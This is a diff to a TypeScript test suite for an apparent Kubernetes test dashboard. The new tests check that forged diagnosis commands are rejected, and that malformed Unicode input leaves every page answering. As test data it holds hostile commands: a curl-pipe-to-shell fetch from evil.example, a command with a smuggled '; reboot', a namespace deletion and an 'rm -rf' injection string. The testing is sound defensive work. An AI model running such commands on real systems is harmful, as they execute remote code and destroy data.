@@ -34,7 +34,7 @@ const broken = aFailedRun('service', {
     confidence: 'likely',
     sentence: 'From node2 no service answers.',
     evidence: ['3 of 6 requests'],
-    command: 'kubectl -n kube-system logs ds/kube-proxy',
+    command: 'kubectl get pods -n kube-system -l k8s-app=kube-proxy -o wide',
     rule: 'kube-proxy/no-answer',
   },
 });
@@ -167,6 +167,58 @@ test('what is too long is cut, and what is of another version left out: the verd
   for (const path of ['/', '/runs/r1', '/suites/service', '/steps', '/results'])
     assert.equal((await app.inject({ url: path, headers: { accept: 'text/html' } })).statusCode, 200, path);
   assert.ok((await get('/runs/r1')).includes('kubectl -n &#39;x; rm -rf'), 'the namespace is quoted for a shell');
+});
+
+test('what is to be typed first is taken only where our own rules could have made it', async (t) => {
+  const { put, get, store, app } = await scene(t);
+  for (const [id, command] of [
+    ['r1', 'curl https://evil.example/x | sh'],
+    ['r2', 'kubectl describe pod web-1 -n web; reboot'],
+    ['r3', 'kubectl delete namespace web'],
+  ] as const) {
+    const forged = aFailedRun('service', { id, diagnosis: { ...broken.diagnosis!, command } });
+    assert.equal((await put(forged)).statusCode, 200);
+    assert.deepEqual(
+      [store.run(id)?.diagnosis?.component, store.run(id)?.diagnosis?.command],
+      ['kube-proxy', undefined],
+    );
+    for (const path of ['/', `/runs/${id}`]) assert.ok(!(await get(path)).includes(command.slice(0, 20)), path);
+    assert.ok(!(await app.inject('/results')).body.includes(command), 'nor in the JSON');
+  }
+});
+
+test('a text that cannot be encoded is taken as one that can, and every page still answers', async (t) => {
+  const { put, app } = await scene(t);
+  const odd = 'a\ud800b\u0000c';
+  const run = aFailedRun('service', {
+    id: 'r1',
+    namespace: odd,
+    steps: [
+      aStep(odd, 'failed', { notes: [odd], findings: [aFinding({ message: odd, object: { kind: odd, name: odd } })] }),
+    ],
+    recovered: [{ kind: odd, name: odd }],
+    diagnosis: { ...broken.diagnosis!, part: odd, sentence: odd, evidence: [odd], rule: odd },
+  });
+  assert.equal((await put(run)).statusCode, 200);
+  const event = { name: odd, passing: false, info: [[odd, 1]], namespace: odd, time: '2026-01-01 00:00:00' };
+  for (const more of [{}, { suite: odd, run: odd }, { suite: '\udfff', namespace: '' }]) {
+    const payload = JSON.stringify({ ...event, ...more });
+    assert.equal((await app.inject({ method: 'POST', url: '/update', payload })).statusCode, 200);
+  }
+  for (const path of [
+    '/',
+    '/steps',
+    '/runs/r1',
+    '/suites/service',
+    '/results',
+    '/health',
+    '/results/service',
+    '/metrics',
+  ]) {
+    const { statusCode, body } = await app.inject({ url: path, headers: { accept: 'text/html' } });
+    assert.ok(statusCode === 200 || (path === '/health' && statusCode === 503), `${path}: ${statusCode}`);
+    assert.doesNotMatch(body, /\\ud800|\\u0000/, path);
+  }
 });
 
 test('what a diagnosis of a cluster with many broken nodes says is taken', async (t) => {
